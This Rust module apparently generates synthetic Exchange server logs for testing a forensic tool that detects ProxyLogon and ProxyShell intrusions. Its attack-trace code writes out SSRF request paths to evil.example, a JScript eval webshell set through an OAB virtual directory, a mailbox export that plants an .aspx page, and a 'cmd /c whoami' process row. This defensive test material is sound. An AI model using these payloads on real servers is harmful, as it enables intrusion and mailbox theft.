//! History: a random life of a server, written down as its logs, with what a report must say of it.
//!
//! The truth is known from how the history was drawn, not from what reads it: an attack leaves traces of a known weight in known
//! kinds of logs; rotation, holes and missing kinds take some away; what is left decides.

mod dice;

mod exports;

mod traces;

mod written;

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::Path;

use evidence::Moment;
use scout::assessment::{Chain, Grade, Verdict};

pub(crate) use dice::Dice;
pub(crate) use traces::Trace;
use written::{
    channel_name, dotted, event_row, ews_row, id_of, iis_row, listed, place_of, put_file,
    sysmon_row, tracking_row,
};

const HOUR_MS: i64 = 3_600_000;

/// A build, with whether it is open for ProxyLogon and for ProxyShell (exchange_builds.csv).
type KnownBuild = ([u16; 4], bool, bool);

const BUILDS: [KnownBuild; 5] = [
    ([15, 1, 2176, 2], true, true),
    ([15, 1, 2176, 9], false, true),
    ([15, 1, 2176, 14], false, false),
    ([15, 1, 2242, 4], false, true),
    ([15, 1, 2308, 8], false, false),
];

/// Kinds of logs in which something is written every hour.
const PROXIES: [&str; 9] = [
    "Autodiscover",
    "Eas",
    "Ecp",
    "Ews",
    "Mapi",
    "Oab",
    "Owa",
    "PowerShell",
    "RpcHttp",
];

/// How far an intruder wants to go.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Plan {
    Scan,
    Forge,
    Plant,
}

#[derive(Clone, Debug)]
struct Attack {
    chain: Chain,
    hour: i64,
    plan: Plan,
    /// Whether it works: the server is open.
    works: bool,
    /// Whether the planted page was taken away again, with what was compiled of it.
    cleaned: bool,
    address: String,
    page: String,
}

/// A line of a log with its kind and hour.
#[derive(Clone, Debug)]
struct Line {
    kind: String,
    at: Moment,
    text: String,
    /// What it gives away.
    grade: Option<Grade>,
}

/// A random life of a server.
#[derive(Clone, Debug)]
pub(crate) struct History {
    seed: u64,
    begin: i64,
    hours: i64,
    /// From which hour on which build ran.
    builds: Vec<(i64, KnownBuild)>,
    lines: Vec<Line>,
    /// Exports and lists: name and content.
    exports: BTreeMap<String, String>,
    planted: Option<Grade>,
    /// Whether an export shows that the server came to be when the logs begin.
    is_young: bool,
    rotated: bool,
    has_hole: bool,
    outside: bool,
    /// Most servers have no Sysmon.
    has_sysmon: bool,
    /// Minutes that the clock of IIS is ahead of UTC.
    pub(crate) iis_ahead: i64,
}

impl History {
    /// Draws one.
    pub(crate) fn draw(seed: u64) -> Self {
        let dice = &mut Dice::new(seed);
        // Most begin before the first attack; the others show that they are young, or do not.
        let begin = match dice.below(4) {
            0 => Moment::parse("2021-03-01T00:00:00Z").unwrap().hour() + dice.below(200),
            1 => Moment::parse("2021-08-10T00:00:00Z").unwrap().hour() + dice.below(200),
            _ => Moment::parse("2020-12-30T00:00:00Z").unwrap().hour() + dice.below(70),
        };
        let hours = 110 + dice.below(90);
        let mut history = Self {
            seed,
            begin,
            hours,
            builds: Vec::new(),
            lines: Vec::new(),
            exports: BTreeMap::new(),
            planted: None,
            is_young: dice.one_in(2),
            rotated: false,
            has_hole: false,
            outside: !dice.one_in(5),
            has_sysmon: !seed.is_multiple_of(3),
            iis_ahead: [0, 0, 0, 60, 120, -300, 345][usize::try_from(seed % 7).unwrap()],
        };
        history.draw_builds(dice);
        history.write_everyday(dice);
        let attack = (!dice.one_in(3)).then(|| history.draw_attack(dice));
        history.write_exports(attack.as_ref());
        if let Some(attack) = &attack {
            history.write_attack(attack);
        }
        history.take_away(dice, attack.as_ref());
        history
    }

    /// One that is attacked, with everything kept: for tests that take things away.
    pub(crate) fn attacked(seed: u64) -> Self {
        let mut seed = seed;
        loop {
            let mut history = Self::draw(seed);
            if history.weight() == Some(Grade::Success)
                && !history.has_hole
                && !history.rotated
                && history.planted.is_some()
            {
                history.is_young = true;
                return history;
            }
            seed += 1_000;
        }
    }

    /// One on which nothing happened, with everything kept.
    pub(crate) fn quiet(has_sysmon: bool) -> Self {
        let mut lives = (0..).map(Self::draw);
        let is_quiet =
            |life: &Self| life.expected() == Verdict::NoTrace && life.has_sysmon == has_sysmon;
        lives.find(is_quiet).expect("one of the next is")
    }

    /// Whether an attack left one line, and nothing is missing that would tell more.
    pub(crate) fn is_complete_with_one_trace(&self) -> bool {
        let traces = self.lines.iter().filter(|line| line.grade.is_some());
        let is_alone = traces.count() == 1 && self.planted.is_none();
        let mut without = self.clone();
        without.lines.retain(|line| line.grade.is_none());
        is_alone && without.expected() == Verdict::NoTrace
    }

    fn draw_builds(&mut self, dice: &mut Dice) {
        let first = usize::try_from(dice.below(5)).unwrap();
        self.builds.push((self.begin, BUILDS[first]));
        let (mut at, mut index) = (self.begin, first);
        while index + 1 < BUILDS.len() && dice.one_in(2) {
            at += 12 + dice.below(40);
            index += 1 + usize::try_from(dice.below(2)).unwrap();
            if at >= self.begin + self.hours - 6 || index >= BUILDS.len() {
                break;
            }
            self.builds.push((at, BUILDS[index]));
        }
    }

    fn build_at(&self, hour: i64) -> KnownBuild {
        self.builds
            .iter()
            .rev()
            .find(|(from, _)| *from <= hour)
            .expect("the first is from the beginning")
            .1
    }

    fn draw_attack(&self, dice: &mut Dice) -> Attack {
        let chain = if dice.one_in(2) {
            Chain::ProxyLogon
        } else {
            Chain::ProxyShell
        };
        let hour = self.begin + 8 + dice.below(self.hours - 16);
        let (_, logon, shell) = self.build_at(hour);
        let is_open = if chain == Chain::ProxyLogon {
            logon
        } else {
            shell
        };
        Attack {
            chain,
            hour,
            plan: [Plan::Scan, Plan::Forge, Plan::Plant, Plan::Plant]
                [usize::try_from(dice.below(4)).unwrap()],
            works: is_open,
            cleaned: dice.one_in(2),
            address: format!("203.0.113.{}", 1 + dice.below(250)),
            page: format!("q{}.aspx", 1_000 + dice.below(9_000)),
        }
    }

    fn put(&mut self, kind: &str, at: Moment, text: String, grade: Option<Grade>) {
        self.lines.push(Line {
            kind: kind.to_owned(),
            at,
            text,
            grade,
        });
    }

    /// What a server writes when nobody attacks it.
    fn write_everyday(&mut self, dice: &mut Dice) {
        for hour in self.begin..self.begin + self.hours {
            let at = Moment::of_hour(hour).plus_ms(dice.below(HOUR_MS - 1));
            for protocol in PROXIES {
                let client = if self.outside && dice.one_in(3) {
                    "198.51.100.77"
                } else {
                    "127.0.0.1"
                };
                let path = match protocol {
                    "Owa" => "/owa/auth/logon.aspx",
                    "Ecp" => "/ecp/default.aspx",
                    "Autodiscover" => "/autodiscover/autodiscover.json",
                    _ => "/x/",
                };
                let query = if protocol == "Autodiscover" {
                    "?Email=anna@example.org&Protocol=ActiveSync"
                } else {
                    ""
                };
                let row = self.proxy_row(
                    at,
                    protocol,
                    path,
                    query,
                    "Sid~S-1-5-21-1",
                    client,
                    200,
                    "GET",
                );
                self.put(&format!("HttpProxy {protocol}"), at, row, None);
            }
            let row = iis_row(
                at.plus_ms(self.iis_ahead * 60_000),
                "GET",
                "/owa/auth/logon.aspx",
                &format!(
                    "url=x&reason=0&CorrelationID=<empty>;&cafeReqId={};",
                    id_of(at)
                ),
                "198.51.100.77",
                200,
            );
            self.put("IIS", at, row, None);
            if hour % 6 == 0 {
                let build = dotted(self.build_at(hour).0);
                let row = format!(
                    "{at},MAIL01,ECP.Request,S:TIME=13;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList;S:EX=;S:BLD={build}"
                );
                self.put("ECP server", at, row, None);
                for (channel, id) in [
                    ("Application", 1001),
                    ("Security", 4624),
                    ("System", 7036),
                    ("MSExchange Management", 1),
                    ("Windows PowerShell", 400),
                    ("Microsoft-Windows-PowerShell/Operational", 40961),
                ] {
                    let row = event_row(
                        at,
                        channel,
                        id,
                        "Cmdlet suceeded. Cmdlet Get-Mailbox, parameters -ResultSize \"1\".",
                        &[],
                    );
                    self.put(&format!("events {}", channel_name(channel)), at, row, None);
                }
                if self.has_sysmon {
                    self.put("events Sysmon", at, sysmon_row(at, 3, &[]), None);
                }
                let row = self.cmdlet_row(at, "Get-Mailbox", "-ResultSize \"\"1\"\"");
                self.put("remote PowerShell commands", at, row, None);
                let build = self.build_at(hour).0;
                for (user, address, action) in [
                    ("HealthMailbox1@example.org", "::1", "GetFolder"),
                    ("anna@example.org", "198.51.100.77", "GetItem"),
                    ("MAIL01$@example.org", "10.0.0.5", "FindItem"),
                ] {
                    self.put("EWS", at, ews_row(at, build, user, address, action), None);
                }
                let delivered = tracking_row(
                    at,
                    build,
                    "STOREDRIVER",
                    "DELIVER",
                    "anna@example.org",
                    "ben@example.org",
                );
                self.put("message tracking", at, delivered, None);
            }
            if hour % 8 == 0 {
                self.put(
                    "OAB generator",
                    at,
                    format!("{at},OABGeneratorAssistant,generation is complete"),
                    None,
                );
            }
        }
    }

    #[expect(clippy::too_many_arguments, reason = "the values of a row")]
    fn proxy_row(
        &self,
        at: Moment,
        protocol: &str,
        path: &str,
        query: &str,
        anchor: &str,
        client: &str,
        status: u16,
        method: &str,
    ) -> String {
        let [major, minor, build, revision] = self.build_at(at.hour()).0;
        // Of the 74 columns, those between are empty here as they mostly are.
        format!(
            "{at},{},{major},{minor},{build},{revision},,{protocol},mail.example.org,{path},,FBA,false,,,{anchor},Mozilla/5.0 (Windows NT 10.0),{client},MAIL01,{status},{status},,{method},Proxy,mail01.example.org,15.01.2176.000,IntraForest,,{},{query},,BeginRequest={at};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;,,,,,,",
            id_of(at),
            ",".repeat(36),
        )
    }

    fn cmdlet_row(&self, at: Moment, cmdlet: &str, parameters: &str) -> String {
        let [major, minor, build, revision] = self.build_at(at.hour()).0;
        format!(
            "{at},{at},7b91be61-3d94-406e-b00c-3d80e3e5f115,,{major},{minor},{build},{revision},MAIL01,15756,w3wp#MSExchangePowerShellAppPool,85,,,SYSTEM,S-1-5-18,,,False,x,{cmdlet},\"{parameters}\",d61f0cba-945f-4857-8c62-91321f16b7b4"
        )
    }

    /// What an intruder leaves behind.
    fn write_attack(&mut self, attack: &Attack) {
        let begin = Moment::of_hour(attack.hour).plus_ms(300_000);
        let at = |second: i64| begin.plus_ms(second * 1_000);
        let address = attack.address.as_str();
        let fails = |status: u16| if attack.works { status } else { 500 };
        let is_logon = attack.chain == Chain::ProxyLogon;
        let proxy = |history: &mut Self, second: i64, target: &str, status: u16, grade: Grade| {
            let (protocol, path, query, anchor) = if is_logon {
                (
                    "Ecp",
                    "/ecp/y.js",
                    String::new(),
                    format!("ServerInfo~{target}"),
                )
            } else {
                (
                    "Autodiscover",
                    "/autodiscover/autodiscover.json",
                    target.to_owned(),
                    String::new(),
                )
            };
            let row = history.proxy_row(
                at(second),
                protocol,
                path,
                &query,
                &anchor,
                address,
                status,
                "POST",
            );
            history.put(
                &format!("HttpProxy {protocol}"),
                at(second),
                row,
                Some(grade),
            );
        };
        let tail = "&Email=autodiscover/autodiscover.json%3F@evil.example";
        match (is_logon, attack.plan) {
            (true, Plan::Scan) => proxy(self, 0, "localhost/ecp/default.flt?~3", 200, Grade::Scan),
            (false, Plan::Scan) => proxy(
                self,
                0,
                &format!("?@evil.example/mapi/nspi/?{tail}"),
                fails(200),
                Grade::Scan,
            ),
            (true, _) => proxy(
                self,
                1,
                "a]@mail01.example.org:444/autodiscover/autodiscover.xml?#",
                fails(200),
                Grade::Attempt,
            ),
            (false, _) => proxy(
                self,
                1,
                &format!("?@evil.example/autodiscover/autodiscover.xml?{tail}"),
                fails(200),
                Grade::Attempt,
            ),
        }
        if attack.plan != Plan::Plant {
            return;
        }
        if !attack.works {
            match is_logon {
                true => proxy(
                    self,
                    3,
                    "a]@mail01.example.org:444/ecp/proxyLogon.ecp?#",
                    500,
                    Grade::Attempt,
                ),
                false => proxy(
                    self,
                    3,
                    &format!("?a=x@evil.example/powershell/?X-Rps-CAT=VgEA{tail}"),
                    401,
                    Grade::Attempt,
                ),
            }
            return;
        }
        let page = attack.page.as_str();
        if is_logon {
            proxy(
                self,
                3,
                "a]@mail01.example.org:444/ecp/proxyLogon.ecp?#",
                241,
                Grade::Success,
            );
            proxy(
                self,
                4,
                "a]@mail01.example.org:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory#",
                200,
                Grade::Success,
            );
            let shell = r#"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>"#;
            let row = format!(
                "{},MAIL01,ECP.Request,\"S:TIME=90;S:CMD=Set-OabVirtualDirectory.ExternalUrl='{}'.Identity='1';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:EX=;S:BLD={}\"",
                at(5),
                shell.replace('"', "\"\""),
                dotted(self.build_at(attack.hour).0)
            );
            self.put("ECP server", at(5), row, Some(Grade::Success));
            let message = format!(
                "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl \"{shell}\" -Identity \"OAB (Default Web Site)\"."
            );
            self.put(
                "events MSExchange Management",
                at(5),
                event_row(at(5), "MSExchange Management", 1, &message, &[]),
                Some(Grade::Success),
            );
            proxy(
                self,
                8,
                "a]@mail01.example.org:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#",
                200,
                Grade::Success,
            );
        } else {
            proxy(
                self,
                3,
                &format!("?a=x@evil.example/powershell/?X-Rps-CAT=VgEA{tail}"),
                200,
                Grade::Success,
            );
            let parameters = format!(
                "-Mailbox \"anna\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\{page}\""
            );
            let row = self.cmdlet_row(
                at(6),
                "New-MailboxExportRequest",
                &parameters.replace('"', "\"\""),
            );
            self.put(
                "remote PowerShell commands",
                at(6),
                row,
                Some(Grade::Success),
            );
            let message = format!(
                "Cmdlet suceeded. Cmdlet New-MailboxExportRequest, parameters {parameters}."
            );
            self.put(
                "events MSExchange Management",
                at(6),
                event_row(at(6), "MSExchange Management", 1, &message, &[]),
                Some(Grade::Success),
            );
        }
        let row = iis_row(
            at(60).plus_ms(self.iis_ahead * 60_000),
            "POST",
            &format!("/aspnet_client/{page}"),
            "-",
            address,
            200,
        );
        self.put("IIS", at(60), row, Some(Grade::Success));
        let build = self.build_at(attack.hour).0;
        // With the rights of the server from outside, which is strange alone; as a user, which is everyday work alone.
        let as_server = ews_row(at(70), build, "MAIL01$@example.org", address, "FindItem");
        self.put("EWS", at(70), as_server, Some(Grade::Attempt));
        let as_user = ews_row(at(90), build, "anna@example.org", address, "ExportItems");
        self.put("EWS", at(90), as_user, None);
        let sent_on = tracking_row(
            at(120),
            build,
            "MAILBOXRULE",
            "RECEIVE",
            "drop@evil.example",
            "anna@example.org",
        );
        self.put("message tracking", at(120), sent_on, None);
        let values = [
            ("NewProcessName", r"C:\Windows\System32\cmd.exe"),
            ("ParentProcessName", r"C:\Windows\System32\inetsrv\w3wp.exe"),
            ("CommandLine", "cmd /c whoami"),
        ];
        self.put(
            "events Security",
            at(61),
            event_row(
                at(61),
                "Security",
                4688,
                "A new process has been created.",
                &values,
            ),
            Some(Grade::Success),
        );
    }

    /// Rotation, holes, and kinds that nobody collected.
    fn take_away(&mut self, dice: &mut Dice, attack: Option<&Attack>) {
        self.rotate(dice);
        // Either somebody lost what is missing after the list was made, or the server did not have it any more.
        if self.seed.is_multiple_of(2) {
            self.write_list();
            self.lose(dice, attack);
        } else {
            self.lose(dice, attack);
            self.write_list();
        }
    }

    fn rotate(&mut self, dice: &mut Dice) {
        if dice.one_in(4) {
            // Rotation: all logs older than some hour are gone.
            let until = self.begin + 12 + dice.below(self.hours / 2);
            self.lines.retain(|line| line.at.hour() >= until);
            self.rotated = true;
            self.is_young = false;
        }
    }

    fn lose(&mut self, dice: &mut Dice, attack: Option<&Attack>) {
        if dice.one_in(4) {
            // A hole in one log, mostly where it hurts.
            let kinds: Vec<String> = PROXIES
                .iter()
                .map(|protocol| format!("HttpProxy {protocol}"))
                .chain(["IIS".to_owned()])
                .collect();
            let kind = kinds[usize::try_from(dice.below(10)).unwrap()].clone();
            let middle = attack
                .filter(|_| dice.one_in(2))
                .map_or(self.begin + 20 + dice.below(self.hours - 60), |attack| {
                    attack.hour - 4
                });
            let hole = middle.max(self.begin + 2)..middle + 10;
            // What is written in the hour before the attack began is no hole before 2021-01-03.
            let is_in_time = hole.end > Moment::parse("2021-01-03T00:00:00Z").unwrap().hour() + 1
                && hole.end < self.begin + self.hours;
            if is_in_time
                && self
                    .lines
                    .iter()
                    .any(|line| line.kind == kind && line.at.hour() < hole.start)
            {
                self.lines
                    .retain(|line| line.kind != kind || !hole.contains(&line.at.hour()));
                self.has_hole = true;
            }
        }
        if dice.one_in(5) {
            let kinds = [
                "HttpProxy Owa",
                "HttpProxy Ecp",
                "IIS",
                "ECP server",
                "OAB generator",
                "events Security",
                "remote PowerShell commands",
                "EWS",
            ];
            let kind = kinds[usize::try_from(dice.below(8)).unwrap()];
            self.lines.retain(|line| line.kind != kind);
            self.has_hole = true;
        }
    }

    /// The list of the log files that the server has now.
    fn write_list(&mut self) {
        let logs = self
            .lines
            .iter()
            .map(|line| (line.kind.as_str(), line.at.hour() / 24));
        let mut files: Vec<_> = logs.map(|(kind, day)| listed(kind, day)).collect();
        files.sort();
        files.dedup();
        let mut list = "FullName,Length,LastWriteTimeUtc\n".to_owned();
        for file in files {
            let _ = writeln!(list, "{file},4096,");
        }
        self.exports.insert("log-files.csv".to_owned(), list);
    }

    /// Whether the page that was planted was called, and IIS tells it: when.
    pub(crate) fn page_called(&self) -> Option<Moment> {
        let in_iis = |line: &&Line| line.kind == "IIS" && line.grade == Some(Grade::Success);
        self.lines.iter().find(in_iis).map(|line| line.at)
    }

    /// The weightiest trace that is left.
    fn weight(&self) -> Option<Grade> {
        self.lines
            .iter()
            .filter_map(|line| line.grade)
            .chain(self.planted)
            .max()
    }

    /// What a report must say.
    pub(crate) fn expected(&self) -> Verdict {
        let attacked_since = Moment::parse("2021-01-03T00:00:00Z").unwrap();
        let first = self
            .lines
            .iter()
            .filter(|line| line.kind.starts_with("HttpProxy") || line.kind == "IIS")
            .map(|line| line.at)
            .min();
        match self.weight() {
            Some(Grade::Success) => Verdict::Compromised,
            Some(_) => Verdict::Attempted,
            None if self.has_hole
                || (!self.is_young && first.is_some_and(|first| first > attacked_since)) =>
            {
                Verdict::CannotKnow
            }
            None => Verdict::NoTrace,
        }
    }

    /// When a hole was open, by hour, as far as the logs show: first and last hour, whether it is closed after.
    pub(crate) fn windows(&self, chain: Chain) -> Vec<(i64, i64, bool)> {
        let tells = |line: &&Line| {
            line.kind.starts_with("HttpProxy")
                || matches!(
                    line.kind.as_str(),
                    "ECP server" | "remote PowerShell commands" | "EWS" | "message tracking"
                )
        };
        let mut hours: Vec<i64> = self
            .lines
            .iter()
            .filter(tells)
            .map(|line| line.at.hour())
            .collect();
        hours.sort_unstable();
        hours.dedup();
        let mut windows: Vec<(i64, i64, bool)> = Vec::new();
        let mut is_open = false;
        for hour in hours {
            let (_, logon, shell) = self.build_at(hour);
            let open = if chain == Chain::ProxyLogon {
                logon
            } else {
                shell
            };
            match (open, is_open) {
                (true, false) => windows.push((hour, hour, false)),
                (true, true) => windows.last_mut().expect("it is open").1 = hour,
                (false, true) => windows.last_mut().expect("it was open").2 = true,
                (false, false) => {}
            }
            is_open = open;
        }
        windows
    }

    /// Kinds of logs of which something is left, and names of exports.
    pub(crate) fn kinds(&self) -> Vec<String> {
        let mut kinds: Vec<_> = self
            .lines
            .iter()
            .map(|line| line.kind.clone())
            .chain(self.exports.keys().cloned())
            .collect();
        kinds.sort();
        kinds.dedup();
        kinds
    }

    /// The history without one kind.
    pub(crate) fn without(&self, kind: &str) -> Self {
        let mut less = self.clone();
        less.lines.retain(|line| line.kind != kind);
        less.exports.remove(kind);
        less
    }

    /// Writes everything into a folder: one file a day and kind; some packed, some with a plain row of names, some in UTF-16.
    pub(crate) fn write(&self, folder: &Path) {
        let mut files: BTreeMap<(String, i64), Vec<&Line>> = BTreeMap::new();
        for line in &self.lines {
            files
                .entry((line.kind.clone(), line.at.hour() / 24))
                .or_default()
                .push(line);
        }
        for ((kind, day), mut lines) in files {
            lines.sort_by_key(|line| line.at);
            let variant = self.seed.wrapping_add(day.unsigned_abs()) % 4;
            let (path, head) = place_of(&kind, day, variant);
            let shift = if kind.starts_with("events ") && variant == 1 && self.has_sysmon {
                Some(-5 * HOUR_MS)
            } else {
                None
            };
            let mut text = head;
            if shift.is_some() {
                // Sysmon tells how far the times of this export are from UTC.
                let at = lines[0].at;
                let utc = at.to_string().replace('T', " ").replace('Z', "");
                let _ = writeln!(
                    text,
                    "{}",
                    serde_json::json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3, "TimeCreated": at.plus_ms(-5 * HOUR_MS).to_string(), "UtcTime": utc})
                );
            }
            for line in lines {
                match shift {
                    Some(shift) => text.push_str(
                        &line
                            .text
                            .replace(&line.at.to_string(), &line.at.plus_ms(shift).to_string()),
                    ),
                    None => text.push_str(&line.text),
                }
                text.push_str(if variant == 2 { "\r\n" } else { "\n" });
            }
            put_file(folder, &path, &text, variant, day);
        }
        for (name, content) in &self.exports {
            put_file(folder, &format!("exports/{name}"), content, 0, 1);
        }
    }
}
